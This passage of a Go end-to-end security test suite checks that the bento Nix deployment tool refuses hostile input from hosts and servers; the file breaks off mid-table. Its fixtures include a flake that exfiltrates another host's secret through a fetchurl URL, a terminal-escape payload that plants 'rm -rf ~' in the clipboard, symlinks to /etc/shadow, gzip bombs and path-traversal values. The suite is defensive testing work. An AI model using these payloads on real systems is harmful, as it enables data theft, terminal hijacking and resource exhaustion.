package e2e

// Attacks of issue 12 that a host mounts with its own key, through the real
// sshd, against the server's root-run bento commands (status, logs, diff),
// and the attacks a compromised server mounts against an agent through the
// manifest. Each test checks what the operator or the host would see: the
// exit code, the message, and that nothing was read, run or lost.

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pkg/sftp"

	"github.com/bento-nix/bento/internal/fixture"
	"github.com/bento-nix/bento/manifest"
	"github.com/bento-nix/bento/nix"
)

// measureRSS, set in the environment of this test binary, makes it run
// the command in its arguments, write the command's peak resident size (in
// bytes) to the file it names, and exit as the command did. A child's
// ru_maxrss starts at its parent's resident size (Linux keeps the old
// address space's high-water mark across exec), so bento is measured as
// the child of this small, fresh process, not of the test.
const measureRSS = "BENTO_E2E_MEASURE_RSS"

func init() {
	out := os.Getenv(measureRSS)
	if out == "" {
		return
	}
	cmd := exec.Command(os.Args[1], os.Args[2:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	err := cmd.Run()
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok && cmd.ProcessState != nil {
		os.WriteFile(out, []byte(fmt.Sprint(ru.Maxrss<<10)), 0o600) // kilobytes on Linux
	}
	if ee, ok := err.(*exec.ExitError); ok {
		os.Exit(ee.ExitCode())
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(127)
	}
	os.Exit(0)
}

// serverBento runs the bento CLI as the server's operator would (as root,
// on the chroot root the sshd serves) and returns what it printed and its
// peak resident memory in bytes.
func serverBento(t *testing.T, e *Env, stdout io.Writer, args ...string) (res Result, maxRSS int64) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	rssFile := filepath.Join(t.TempDir(), "rss")
	cmd := exec.CommandContext(ctx, self, append([]string{Bento(t)}, args...)...)
	cmd.Env = append(append(os.Environ(), fixture.Env()...), "NO_COLOR=1", measureRSS+"="+rssFile)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if stdout != nil {
		cmd.Stdout = stdout
	}
	err = cmd.Run()
	res = Result{Stdout: out.String(), Stderr: errb.String()}
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("running bento %v: %v", args, err)
		}
		res.ExitCode = ee.ExitCode()
	}
	if data, err := os.ReadFile(rssFile); err == nil {
		fmt.Sscan(string(data), &maxRSS)
	} else {
		t.Fatalf("bento %v: its peak memory was not measured: %v", args, err)
	}
	shown := res.Output()
	if len(shown) > 4000 {
		shown = shown[:4000] + "…"
	}
	t.Logf("bento %s: exit %d, peak RSS %d MiB:\n%s", strings.Join(args, " "), res.ExitCode, maxRSS>>20, indent(shown))
	return res, maxRSS
}

// upload writes a file into the host's chroot over SFTP, as the host.
func upload(t *testing.T, c *sftp.Client, p string, data []byte) {
	t.Helper()
	if err := c.MkdirAll(path.Dir(p)); err != nil {
		t.Fatalf("as the host: mkdir %s: %v", path.Dir(p), err)
	}
	f, err := c.Create(p)
	if err != nil {
		t.Fatalf("as the host: create %s: %v", p, err)
	}
	if _, err := f.Write(data); err != nil {
		t.Fatalf("as the host: write %s: %v", p, err)
	}
	if err := f.Close(); err != nil {
		t.Fatalf("as the host: close %s: %v", p, err)
	}
}

// hostReport is a plausible report a host uploads, for the attacks to edit.
func hostReport(host, version string) manifest.Report {
	now := time.Now().UTC()
	return manifest.Report{
		Format: manifest.ReportFormat, Host: host,
		SeenVersion: version, AppliedVersion: version, AttemptedVersion: version,
		Stage: manifest.StageConfirmed, Result: manifest.ResultSuccess,
		Mode: "build", Operation: "switch",
		StartedAt: now.Add(-time.Minute), FinishedAt: now,
	}
}

func uploadReport(t *testing.T, c *sftp.Client, r any) {
	t.Helper()
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	upload(t, c, "/"+manifest.StatusFile, data)
}

// wouldBeInStore is the store path Nix gives p when a flake input
// "path:p" is fetched, computed without adding it (--read-only).
func wouldBeInStore(t *testing.T, e *Env, p string) string {
	t.Helper()
	out, err := e.Nix.Run(context.Background(), nix.Cmd{Args: []string{"eval", "--impure", "--read-only", "--raw", "--expr",
		fmt.Sprintf("builtins.path { path = %s; name = \"source\"; }", p)}})
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

// The attack of issue 12 item 1, as the host: its report names, as its
// current system, a directory it wrote in its reports/ that is shaped like
// a store path and holds a flake whose input is a file outside its chroot
// (another host's secret, say). bento diff must refuse it before any Nix
// command sees it: nothing is locked, fetched or copied into the store.
// The last step evaluates the same flake by hand, to show the marker
// would have appeared had bento passed it on.
func TestAttackDiffEvaluatesNoHostFlake(t *testing.T) {
	e := Start(t, hostsFleet("alpha", "beta"))
	alpha := e.Host(t, "alpha")
	e.Publish(t)
	stateDir := t.TempDir()

	// What the attacker wants: a file root can read, outside its chroot.
	secret := filepath.Join(t.TempDir(), "beta-secret")
	if err := os.WriteFile(secret, []byte(fmt.Sprintf("beta's secret %d\n", time.Now().UnixNano())), 0o600); err != nil {
		t.Fatal(err)
	}
	marker := wouldBeInStore(t, e, secret)
	if exists(marker) {
		t.Fatalf("the marker %s is in the store before the attack", marker)
	}

	c := e.SSHD.SFTP(t, alpha.SSH)
	const fake = "0123456789abcdfghijklmnpqrsvwxyz-nixos-system-alpha"
	evilDir := filepath.Join(e.Chroot("alpha"), manifest.ReportsDir, fake)
	upload(t, c, "/"+manifest.ReportsDir+"/"+fake+"/flake.nix", []byte(fmt.Sprintf(`{
  inputs.stolen = { url = "path:%s"; flake = false; };
  outputs = { self, stolen }: { packages.x86_64-linux.default = builtins.fetchurl "http://127.0.0.1:1/?${builtins.readFile stolen}"; };
}
`, secret)))
	// A symlink shaped like a store path, to the flake directory.
	if err := c.Symlink(fake, "/"+manifest.ReportsDir+"/1123456789abcdfghijklmnpqrsvwxyz-nixos-system-alpha"); err != nil {
		t.Fatalf("as the host: symlink: %v", err)
	}
	storeDir := path.Dir(e.Manifest(t, "alpha").ExpectedToplevel)

	built := e.Manifest(t, "alpha").ExpectedToplevel
	for _, tc := range []struct {
		name, system string
		want         string
		// boot: reported as operation boot's actualToplevel (what the host
		// will boot), next to a valid current system.
		boot bool
	}{
		{"a store-path-shaped directory in reports/", evilDir, "invalid system reported by the host", false},
		{"the same as the system a boot host will boot", evilDir, "invalid system reported by the host", true},
		{"a symlink in reports/ to it", filepath.Join(e.Chroot("alpha"), manifest.ReportsDir, "1123456789abcdfghijklmnpqrsvwxyz-nixos-system-alpha"), "invalid system reported by the host", false},
		{"a path: flake reference", "path:" + evilDir, "invalid system reported by the host", false},
		{"a flake reference with an attribute", evilDir + "#default", "invalid system reported by the host", false},
		{"a store path with .. back out", storeDir + "/../.." + evilDir, "invalid system reported by the host", false},
		{"a store path below a store path", storeDir + "/0123456789abcdfghijklmnpqrsvwxyz-x/flake", "invalid system reported by the host", false},
		{"an option", "--impure", "invalid system reported by the host", false},
		{"a store path never built here", storeDir + "/" + fake, "is not in this machine's Nix store", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep := hostReport("alpha", e.Manifest(t, "alpha").Version)
			rep.CurrentSystem = tc.system
			if tc.boot {
				rep.Operation, rep.CurrentSystem, rep.ActualToplevel = "boot", built, tc.system
			}
			uploadReport(t, c, rep)

			res, _ := serverBento(t, e, nil, "diff", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir, "alpha")
			if res.ExitCode != 1 {
				t.Errorf("bento diff: exit %d, want 1", res.ExitCode)
			}
			if !strings.Contains(res.Stderr, "host alpha") || !strings.Contains(res.Stderr, tc.want) {
				t.Errorf("bento diff's error does not name the host and %q:\n%s", tc.want, res.Stderr)
			}
			if strings.Contains(res.Stdout, "from") || strings.Contains(res.Stdout, tc.system) {
				t.Errorf("bento diff shows what the host reported as a system before refusing it:\n%s", res.Stdout)
			}
			if exists(filepath.Join(evilDir, "flake.lock")) {
				t.Errorf("Nix locked the host's flake: %s/flake.lock was written", evilDir)
			}
			if exists(marker) {
				t.Fatalf("Nix fetched the host's flake input: %s (the secret) is in the store", marker)
			}

			// status flags the host and never shows the path.
			st, _ := serverBento(t, e, nil, "status", "--no-eval", "--json", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir)
			if tc.want == "invalid system reported by the host" {
				var doc struct {
					Hosts []struct {
						Name          string `json:"host"`
						InvalidSystem bool   `json:"invalidSystem"`
					} `json:"hosts"`
				}
				if err := json.Unmarshal([]byte(st.Stdout), &doc); err != nil {
					t.Fatalf("bento status --json: %v\n%s", err, st.Stdout)
				}
				flagged := false
				for _, h := range doc.Hosts {
					flagged = flagged || h.Name == "alpha" && h.InvalidSystem
				}
				if !flagged {
					t.Errorf("bento status --json does not flag alpha's invalidSystem:\n%s", st.Stdout)
				}
				if strings.Contains(st.Stdout, tc.system) {
					t.Errorf("bento status --json shows the reported path %q", tc.system)
				}
			}
		})
	}

	// The control: the flake is a working attack, had Nix been given it.
	out, err := e.Nix.Run(context.Background(), nix.Cmd{Args: []string{"flake", "metadata", evilDir}})
	if err != nil || !exists(marker) {
		t.Errorf("the attack flake did not fetch its input when evaluated by hand (err %v): this test proves nothing\n%s", err, out)
	}
}

// hostileText is every kind of sequence that must not reach the
// operator's terminal: OSC 52 (set the clipboard), a window title, clear
// screen, CSI as a C1 control in UTF-8, OSC as C1, a bidi override, a
// zero-width space, BEL and a bare CR (overwrite the line).
const hostileText = "x\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\u009b31m\u009d0;t\u009c\u202eevil\u200b\x07\rforged"

// forbidden are the bytes and runes none of bento's output may contain
// when it shows hostileText.
var forbidden = []string{"\x1b", "\x07", "\r", "\u009b", "\u009d", "\u009c", "\u202e", "\u200b"}

func assertNoControls(t *testing.T, what, out string) {
	t.Helper()
	for _, f := range forbidden {
		if strings.Contains(out, f) {
			t.Errorf("%s prints %q raw:\n%q", what, f, out)
		}
	}
	// The raw byte 0x9b (CSI on an 8-bit terminal) and any other C1 byte
	// outside a UTF-8 sequence.
	for i := 0; i < len(out); i++ {
		if b := out[i]; b >= 0x80 && b <= 0x9f && (i == 0 || out[i-1] < 0xc0) {
			r := []rune(string(out[max(0, i-3) : i+1]))
			if len(r) > 0 && r[len(r)-1] == '\ufffd' {
				t.Errorf("%s prints the raw byte %#x", what, b)
				return
			}
		}
	}
}

// Host-chosen log names and report fields, full of terminal controls, as
// bento logs and bento status show them (also --json, --list and in error
// messages): nothing reaches the terminal as a control.
func TestAttackTerminalEscapesInLogsAndStatus(t *testing.T) {
	e := Start(t, hostsFleet("alpha"))
	alpha := e.Host(t, "alpha")
	e.Publish(t)
	stateDir := t.TempDir()
	c := e.SSHD.SFTP(t, alpha.SSH)

	logName := "0000000000000000" + hostileText + "\x9b2J.log"
	upload(t, c, "/"+manifest.LogsDir+"/"+logName, []byte("build output "+hostileText+"\x9b2J\nend\n"))
	rep := hostReport("alpha", e.Manifest(t, "alpha").Version)
	rep.Result, rep.Stage = manifest.ResultFailure, manifest.StageFailed
	rep.Error = "build failed: " + hostileText
	rep.Summary = "build failed: " + hostileText
	rep.RollbackReason = hostileText
	rep.AgentVersion = hostileText
	rep.Log = logName
	rep.SecretErrors = map[string]string{hostileText: hostileText}
	data, _ := json.Marshal(rep)
	// A raw 0x9b byte inside a JSON string, which encoding/json would have
	// replaced: the host writes bytes, not Go values.
	data = bytes.ReplaceAll(data, []byte(`"build failed: `), []byte("\"build failed: \x9b2J "))
	upload(t, c, "/"+manifest.StatusFile, data)

	for _, args := range [][]string{
		{"logs", "--chroot-root", e.SSHD.Root, "alpha"},
		{"logs", "--chroot-root", e.SSHD.Root, "alpha", logName},
		{"logs", "--list", "--chroot-root", e.SSHD.Root, "alpha"},
		{"logs", "--chroot-root", e.SSHD.Root, "alpha", "nosuchlog"},
		{"status", "--no-eval", "--wide", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir},
		{"status", "--no-eval", "--wide", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir, "alpha"},
		{"status", "--no-eval", "--json", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir},
		{"status", "--no-eval", "--prometheus", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir},
		{"diff", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir, "alpha"},
	} {
		res, _ := serverBento(t, e, nil, args...)
		what := "bento " + strings.Join(args[:2], " ")
		assertNoControls(t, what, res.Output())
		if args[0] == "logs" && args[len(args)-1] != "nosuchlog" && args[1] != "--list" {
			if res.ExitCode != 0 || !strings.Contains(res.Stdout, "build output") || !strings.Contains(res.Stdout, "end") {
				t.Errorf("%s: exit %d; the log's text around the controls is lost", what, res.ExitCode)
			}
		}
		if args[0] == "status" && args[len(args)-1] != "alpha" && !strings.Contains(res.Stdout, "build failed") && !strings.Contains(res.Stdout, "bento_host") {
			t.Errorf("%s does not show the host's error", what)
		}
		if slices.Contains(args, "--json") {
			var doc any
			if err := json.Unmarshal([]byte(res.Stdout), &doc); err != nil {
				t.Errorf("bento status --json is not JSON: %v", err)
			}
			// Report fields are verbatim (docs/status.md), JSON-escaped
			// above; the message, meant for display, holds no control even
			// decoded.
			var decoded bytes.Buffer
			walkMessages(doc, func(s string) { decoded.WriteString(s + "\n") })
			if !strings.Contains(decoded.String(), "build failed") {
				t.Errorf("bento status --json: no message shows the host's error")
			}
			assertNoControls(t, "bento status --json's messages (decoded)", decoded.String())
		}
	}
}

// walkMessages calls f with each host's "message".
func walkMessages(doc any, f func(string)) {
	m, _ := doc.(map[string]any)
	hosts, _ := m["hosts"].([]any)
	for _, h := range hosts {
		if hm, ok := h.(map[string]any); ok {
			if s, ok := hm["message"].(string); ok {
				f(s)
			}
		}
	}
}

// countWriter counts what it is given and keeps nothing.
type countWriter struct{ n int64 }

func (w *countWriter) Write(p []byte) (int, error) { w.n += int64(len(p)); return len(p), nil }

// gzipOf compresses n bytes made by repeating unit, after prefix.
func gzipOf(t *testing.T, prefix, unit string, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	zw.Write([]byte(prefix))
	chunk := bytes.Repeat([]byte(unit), (1<<20)/len(unit))
	for written := 0; written < n; written += len(chunk) {
		zw.Write(chunk)
	}
	zw.Close()
	return buf.Bytes()
}

// A gzip bomb as the host's log: a few hundred kilobytes that inflate to
// 512 MiB, once as plain text and once as one escape sequence that never
// ends (the filter once buffered it whole: 1.3 GB for a 400 KB log).
// bento logs prints at most --max-bytes, says so, and stays small.
func TestAttackGzipBombLog(t *testing.T) {
	e := Start(t, hostsFleet("alpha"))
	alpha := e.Host(t, "alpha")
	e.Publish(t)
	c := e.SSHD.SFTP(t, alpha.SSH)
	const inflated = 512 << 20
	const rssLimit = 256 << 20
	for _, tc := range []struct {
		name, prefix, unit string
		args               []string
		printedMax         int64
	}{
		{"text", "", "A", nil, 64 << 20},
		{"unterminated escape", "start\x1b[", "1;", nil, 64 << 20},
		{"unterminated OSC", "start\x1b]52;c;", "QUFB", []string{"--max-bytes", "8388608"}, 8 << 20},
	} {
		t.Run(tc.name, func(t *testing.T) {
			name := "b0mb000000000000-" + strings.ReplaceAll(tc.name, " ", "-") + ".log.gz"
			bomb := gzipOf(t, tc.prefix, tc.unit, inflated)
			upload(t, c, "/"+manifest.LogsDir+"/"+name, bomb)
			var out countWriter
			args := append(append([]string{"logs", "--chroot-root", e.SSHD.Root}, tc.args...), "alpha", name)
			res, rss := serverBento(t, e, &out, args...)
			t.Logf("a %d-byte gzip log: printed %d bytes, peak RSS %d MiB", len(bomb), out.n, rss>>20)
			if res.ExitCode != 1 || !strings.Contains(res.Stderr, "over the limit of decompressed output") || !strings.Contains(res.Stderr, "--max-bytes") {
				t.Errorf("exit %d; want 1 and a message naming the limit and --max-bytes:\n%s", res.ExitCode, res.Stderr)
			}
			if out.n > tc.printedMax {
				t.Errorf("printed %d bytes, over the %d limit", out.n, tc.printedMax)
			}
			if rss > rssLimit {
				t.Errorf("bento logs used %d MiB of memory on a %d KiB log", rss>>20, len(bomb)>>10)
			}
		})
	}
}

// A compromised (or broken) server publishes a manifest whose version is
// not a version: "current" once made the agent link a version directory to
// itself, "../x" would name a directory outside config/. The agent refuses
// the manifest, says why, and keeps the system it runs.
func TestAttackManifestVersionIsNotAVersion(t *testing.T) {
	e, h, v1 := applied(t, hostsFleet("alpha"))
	good := *e.Manifest(t, "alpha")
	before := listTree(t, h.StateDir)
	for _, version := range []string{"current", "../x", "../../../../tmp/x", "staging", "0123456789ABCDEF", "-rf", ""} {
		t.Run(version, func(t *testing.T) {
			m := good
			m.Version = version
			e.WriteManifest(t, "alpha", m)
			res := h.Run(t)
			if res.ExitCode != 1 || !strings.Contains(res.Output(), "invalid version") || !strings.Contains(res.Output(), "16 lowercase hex digits") {
				t.Errorf("exit %d; the output must say the version is invalid and what a version is", res.ExitCode)
			}
			if h.ProfileTarget(t) != v1.Built || len(h.Switches(t)) != 1 {
				t.Error("the host acted on a manifest with an invalid version")
			}
			if after := listTree(t, h.StateDir); !slices.Equal(before, after) {
				t.Errorf("the agent's state directory changed: before %v, after %v", before, after)
			}
			if st := h.Status(t); st == nil || st.Result != manifest.ResultFailure || st.AppliedVersion != v1.Version || !strings.Contains(st.Error, "invalid version") {
				t.Errorf("status after an invalid version: %+v", st)
			}
		})
	}
	// The server repairs its manifest: the next tick is fine again.
	e.WriteManifest(t, "alpha", good)
	if res := h.Run(t); res.ExitCode != 0 || h.ProfileTarget(t) != v1.Built {
		t.Errorf("after the repair: exit %d, profile %s", res.ExitCode, h.ProfileTarget(t))
	}
}

// listTree names the directories and links under dir (files change on
// every tick: state, logs; the shape must not).
func listTree(t *testing.T, dir string) []string {
	t.Helper()
	var names []string
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && (fi.IsDir() || fi.Mode()&os.ModeSymlink != 0) {
			rel, _ := filepath.Rel(dir, p)
			names = append(names, rel)
		}
		return nil
	})
	return names
}

// A compromised server tells a fetch-mode host to realise something that is
// not a store path: a flake reference, an installable, a path of its
// choosing. Nix would evaluate or build it as root; the agent refuses the
// manifest before any Nix command sees it, and keeps its system.
func TestAttackFetchModeExpectedToplevelNotAStorePath(t *testing.T) {
	e, h, v1 := applied(t, hostsFleet("alpha"))
	h.Settings["mode"] = "fetch"
	storeDir := path.Dir(v1.Built)
	evil := filepath.Join(t.TempDir(), "0123456789abcdfghijklmnpqrsvwxyz-nixos-system-alpha")
	os.MkdirAll(evil, 0o755)
	good := *e.Manifest(t, "alpha")
	const notStorePath = "is not a store path"
	for i, tc := range []struct{ bad, want string }{
		{evil, notStorePath},
		{"path:" + evil, notStorePath},
		{evil + "#default", notStorePath},
		{"nixpkgs#hello", notStorePath},
		{"github:attacker/flake", notStorePath},
		{"--impure", notStorePath},
		{storeDir + "/../.." + evil, notStorePath},
		{v1.Built + "/sw", notStorePath},
		{storeDir + "/0123456789abcdfghijklmnpqrsvwxyz-x\x1b]0;t\x07", notStorePath},
		{storeDir + "/0123456789abcdfghijklmnpqrsvwxyz-evil.drv", "is a derivation, not a system"},
	} {
		bad := tc.bad
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			m := good
			m.Version = fmt.Sprintf("a77ac0000000000%x", i)
			// A new publication numbers itself after the last: this one
			// must reach the expectedToplevel check, not the replay check.
			m.Sequence = good.Sequence + uint64(i) + 1
			m.ExpectedToplevel = bad
			e.WriteManifest(t, "alpha", m)
			res := h.Run(t)
			if res.ExitCode != 1 || !strings.Contains(res.Output(), "expectedToplevel") || !strings.Contains(res.Output(), tc.want) {
				t.Errorf("expectedToplevel %q: exit %d; the output must name expectedToplevel and say %q", bad, res.ExitCode, tc.want)
			}
			assertNoControls(t, "the agent's output", res.Output())
			if h.ProfileTarget(t) != v1.Built || len(h.Switches(t)) != 1 {
				t.Errorf("expectedToplevel %q: the host acted on it", bad)
			}
			if st := h.Status(t); st == nil || st.Result != manifest.ResultFailure || st.AppliedVersion != v1.Version || !strings.Contains(st.Error, "expectedToplevel") {
				t.Errorf("status: %+v", st)
			}
			if exists(filepath.Join(evil, "flake.lock")) {
				t.Errorf("Nix evaluated %s as a flake", evil)
			}
		})
	}
}

// Symlinks the host plants in its reports/ (status.json, a log, the logs
// directory itself) pointing at another host's report and log or at
// /etc/shadow: status, logs and diff, run as root, must not follow them
// out of the host's chroot, and must not show what they point at.
func TestAttackSymlinksInReports(t *testing.T) {
	e := Start(t, hostsFleet("alpha", "beta"))
	alpha, beta := e.Host(t, "alpha"), e.Host(t, "beta")
	e.Publish(t)
	if res := beta.Run(t); res.ExitCode != 0 {
		t.Fatalf("beta's tick: exit %d", res.ExitCode)
	}
	betaLogs := beta.Logs(t)
	if len(betaLogs) == 0 {
		t.Fatal("beta uploaded no log")
	}
	// A line of beta's log that names beta: alpha must never see it.
	var betaLine string
	for _, line := range strings.Split(beta.Log(t, betaLogs[0]), "\n") {
		if strings.Contains(line, "nixos-system-beta") {
			betaLine = strings.TrimSpace(line)
			break
		}
	}
	if betaLine == "" {
		t.Fatal("beta's log names no nixos-system-beta")
	}
	betaStatus, err := os.ReadFile(filepath.Join(e.Chroot("beta"), manifest.StatusFile))
	if err != nil {
		t.Fatal(err)
	}
	var betaReport map[string]any
	if err := json.Unmarshal(betaStatus, &betaReport); err != nil {
		t.Fatal(err)
	}
	shadow, _ := os.ReadFile("/etc/shadow")
	shadowLine, _, _ := strings.Cut(string(shadow), "\n")
	stateDir := t.TempDir()

	c := e.SSHD.SFTP(t, alpha.SSH)
	// Relative targets climb out of alpha's chroot on the server, where
	// root resolves them; absolute ones name the server's root directory.
	for _, tc := range []struct {
		name    string
		plant   func(t *testing.T)
		command []string
		// alphaRow is in alpha's status row; logsSay in bento logs alpha's output.
		alphaRow, logsSay string
	}{
		{"status.json to beta's report", func(t *testing.T) {
			mustSymlink(t, c, "../../beta/"+manifest.StatusFile, "/"+manifest.StatusFile)
			leadsTo(t, filepath.Join(e.Chroot("alpha"), manifest.StatusFile), filepath.Join(e.Chroot("beta"), manifest.StatusFile))
		}, nil, "unreadable report: reports/status.json: path escapes from parent", "alpha's own log"},
		{"status.json by absolute path to beta's report", func(t *testing.T) {
			mustSymlink(t, c, filepath.Join(e.Chroot("beta"), manifest.StatusFile), "/"+manifest.StatusFile)
			leadsTo(t, filepath.Join(e.Chroot("alpha"), manifest.StatusFile), filepath.Join(e.Chroot("beta"), manifest.StatusFile))
		}, nil, "unreadable report: reports/status.json: path escapes from parent", "alpha's own log"},
		{"status.json to /etc/shadow", func(t *testing.T) {
			mustSymlink(t, c, "/etc/shadow", "/"+manifest.StatusFile)
		}, nil, "unreadable report: reports/status.json: path escapes from parent", "alpha's own log"},
		{"a log to /etc/shadow, named by the report", func(t *testing.T) {
			mustSymlink(t, c, "/etc/shadow", "/"+manifest.LogsDir+"/0000000000000000-shadow.log")
			rep := hostReport("alpha", e.Manifest(t, "alpha").Version)
			rep.Log = "0000000000000000-shadow.log"
			uploadReport(t, c, rep)
		}, []string{"0000000000000000-shadow.log"}, "up-to-date", "alpha's own log"},
		{"a log to beta's log", func(t *testing.T) {
			mustSymlink(t, c, "../../../beta/"+manifest.LogsDir+"/"+betaLogs[0], "/"+manifest.LogsDir+"/"+betaLogs[0])
			leadsTo(t, filepath.Join(e.Chroot("alpha"), manifest.LogsDir, betaLogs[0]), filepath.Join(e.Chroot("beta"), manifest.LogsDir, betaLogs[0]))
		}, []string{betaLogs[0]}, "no report yet", "alpha's own log"},
		{"the report names beta's log by path", func(t *testing.T) {
			rep := hostReport("alpha", e.Manifest(t, "alpha").Version)
			rep.Log = "../../../beta/" + manifest.LogsDir + "/" + betaLogs[0]
			uploadReport(t, c, rep)
		}, []string{pathToBetasLog(betaLogs[0])}, "up-to-date", "alpha's own log"},
		{"the logs directory to beta's", func(t *testing.T) {
			mustSymlink(t, c, "../../beta/"+manifest.LogsDir, "/"+manifest.LogsDir)
			leadsTo(t, filepath.Join(e.Chroot("alpha"), manifest.LogsDir), filepath.Join(e.Chroot("beta"), manifest.LogsDir))
		}, nil, "no report yet", "reports/logs: path escapes from parent"},
		{"reports/ entries to /etc", func(t *testing.T) {
			mustSymlink(t, c, "/etc", "/"+manifest.LogsDir)
			mustSymlink(t, c, "/etc/shadow", "/"+manifest.StatusFile)
		}, []string{"shadow"}, "unreadable report: reports/status.json: path escapes from parent", "reports/logs: path escapes from parent"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			clearReports(t, c)
			upload(t, c, "/"+manifest.LogsDir+"/0000000000000000-own.log", []byte("alpha's own log\n"))
			tc.plant(t)
			runs := [][]string{
				{"status", "--no-eval", "--wide", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir},
				{"status", "--no-eval", "--json", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir},
				{"logs", "--chroot-root", e.SSHD.Root, "alpha"},
				{"logs", "--list", "--chroot-root", e.SSHD.Root, "alpha"},
				{"diff", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir, "alpha"},
			}
			if tc.command != nil {
				runs = append(runs, append([]string{"logs", "--chroot-root", e.SSHD.Root, "alpha"}, tc.command...))
			}
			for _, args := range runs {
				res, _ := serverBento(t, e, nil, args...)
				out := res.Output()
				what := "bento " + strings.Join(args, " ")
				if shadowLine != "" && strings.Contains(out, shadowLine) {
					t.Errorf("%s shows /etc/shadow", what)
				}
				if strings.Contains(out, betaLine) {
					t.Errorf("%s shows beta's log through alpha", what)
				}
				if args[0] == "status" && args[2] == "--wide" && !strings.Contains(rowOf(out, "alpha"), tc.alphaRow) {
					t.Errorf("%s: alpha's row lacks %q", what, tc.alphaRow)
				}
				if args[0] == "logs" && len(args) == 4 && !strings.Contains(out, tc.logsSay) {
					t.Errorf("%s does not say %q", what, tc.logsSay)
				}
			}
			// alpha's row never takes beta's report for its own.
			res, _ := serverBento(t, e, nil, "status", "--no-eval", "--json", "--chroot-root", e.SSHD.Root, "--state-dir", stateDir)
			var doc struct {
				Hosts []map[string]any `json:"hosts"`
			}
			if err := json.Unmarshal([]byte(res.Stdout), &doc); err != nil {
				t.Fatalf("status --json: %v", err)
			}
			for _, h := range doc.Hosts {
				if h["host"] != "alpha" {
					continue
				}
				// (Versions are content hashes: alpha and beta may share one.)
				for _, k := range []string{"system", "log", "agentVersion"} {
					if v, _ := h[k].(string); v != "" && (v == betaReport[k] || k == "system" && v == betaReport["currentSystem"]) {
						t.Errorf("alpha's row shows beta's %s %q", k, v)
					}
				}
			}
			// The planted links are the host's to remove; nothing they
			// point at was changed.
			if now, _ := os.ReadFile(filepath.Join(e.Chroot("beta"), manifest.StatusFile)); !bytes.Equal(now, betaStatus) {
				t.Error("beta's report changed")
			}
		})
	}
}

// pathToBetasLog names beta's log as a path from alpha's logs directory.
func pathToBetasLog(name string) string { return "../../../beta/" + manifest.LogsDir + "/" + name }

// leadsTo checks that link, followed by root on the server, is target:
// the attack would work on a bento that follows links.
func leadsTo(t *testing.T, link, target string) {
	t.Helper()
	a, errA := os.Stat(link)
	b, errB := os.Stat(target)
	if errA != nil || errB != nil || !os.SameFile(a, b) {
		t.Fatalf("the planted link %s does not lead to %s (%v, %v): the attack is not tried", link, target, errA, errB)
	}
}

func mustSymlink(t *testing.T, c *sftp.Client, target, link string) {
	t.Helper()
	if fi, err := c.Lstat(link); err == nil && fi.IsDir() {
		fis, _ := c.ReadDir(link)
		for _, fi := range fis {
			c.Remove(link + "/" + fi.Name())
		}
		c.RemoveDirectory(link)
	}
	c.Remove(link)
	if err := c.Symlink(target, link); err != nil {
		t.Fatalf("as the host: symlink %s -> %s: %v", link, target, err)
	}
}

// clearReports empties the host's reports/ over SFTP.
func clearReports(t *testing.T, c *sftp.Client) {
	t.Helper()
	for _, dir := range []string{"/" + manifest.LogsDir, "/" + manifest.ReportsDir} {
		fis, err := c.ReadDir(dir)
		if err != nil {
			continue
		}
		for _, fi := range fis {
			if !fi.IsDir() {
				c.Remove(dir + "/" + fi.Name())
			}
		}
	}
	// A logs link is removed like a file; a logs directory is kept.
	if fi, err := c.Lstat("/" + manifest.LogsDir); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		c.Remove("/" + manifest.LogsDir)
	}
}

// rowOf is the table line of host ("" when there is none).
func rowOf(table, host string) string {
	for _, line := range strings.Split(table, "\n") {
		if f := strings.Fields(line); len(f) > 0 && f[0] == host {
			return line
		}
	}
	return ""
}

// Reports that are too big, too deep or not files at all: bento status
// names the problem in the host's row, stays small and shows the other
// hosts as usual.
func TestAttackOversizedAndMalformedReports(t *testing.T) {
	e := Start(t, hostsFleet("alpha", "beta"))
	alpha, beta := e.Host(t, "alpha"), e.Host(t, "beta")
	e.Publish(t)
	if res := beta.Run(t); res.ExitCode != 0 {
		t.Fatalf("beta's tick: exit %d", res.ExitCode)
	}
	stateDir := t.TempDir()
	c := e.SSHD.SFTP(t, alpha.SSH)
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T)
		want  string
	}{
		// 32 MiB: far over status.json's own cap, under the reports/
		// limit (64 MiB), which a bigger file would trip first.
		{"32 MiB of JSON", func(t *testing.T) {
			upload(t, c, "/"+manifest.StatusFile, append([]byte(`{"format":1,"error":"`), bytes.Repeat([]byte("A"), 32<<20)...))
		}, "reports/status.json is 32.0 MiB, over the 1.0 MiB limit"},
